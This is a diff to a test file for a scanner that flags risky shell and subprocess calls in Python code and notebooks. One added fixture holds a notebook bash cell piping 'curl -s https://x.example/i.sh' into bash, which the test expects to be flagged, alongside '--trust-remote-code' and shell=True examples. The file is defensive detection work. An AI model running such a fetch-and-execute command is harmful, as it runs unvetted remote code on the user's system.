@@ -145,12 +145,15 @@ def test_names_aliases_and_exported_notebooks(tmp_path: Path) -> None:
         'asyncio.create_subprocess_exec("vllm", "serve", "org/m", "--trust-remote-code")\n'
         "def run(cmd):\n"
         "    sh(cmd, shell=True)\n"  # a parameter: nothing to judge
+        "get_ipython().run_cell_magic('bash', '', 'cd /w\\ncurl -s https://x.example/i.sh | bash\\n')\n"
+        "get_ipython().run_cell_magic('markdown', '', 'curl -s https://x.example/i.sh | bash')\n"
     )
     assert ours(scan_code(tmp_path, source)) == [
         ("MLS307", 7, 1, "high"),
         ("MLS320", 6, 1, "high"),
         ("MLS321", 4, 1, "high"),
         ("MLS321", 5, 1, "high"),
+        ("MLS321", 10, 1, "high"),
     ]
 
 
@@ -178,6 +181,9 @@ def test_command_text_of_built_strings() -> None:
         'subprocess.run([sys.executable, "-m", "pip", "install", "a b", *rest])\n'
         "subprocess.run(cmd)\n"
         'subprocess.run([program, "--help"])\n'
+        'os.system(" ".join(["vllm", "serve", model, "--port", str(port)]))\n'
+        'subprocess.run("vllm serve m".split())\n'
+        "get_ipython().run_cell_magic('bash', '', 'cd x\\npip install y')\n"
     ) == [
         "pip install {pkg} && ls",
         "gsutil cp {src} {dst}",
@@ -185,6 +191,9 @@ def test_command_text_of_built_strings() -> None:
         "cp {} {}",
         "python -m pip install 'a b' {rest}",
         "{program} --help",
+        "vllm serve {model} --port {str_port_}",
+        "vllm serve m",
+        "cd x\npip install y",
     ]
 
 
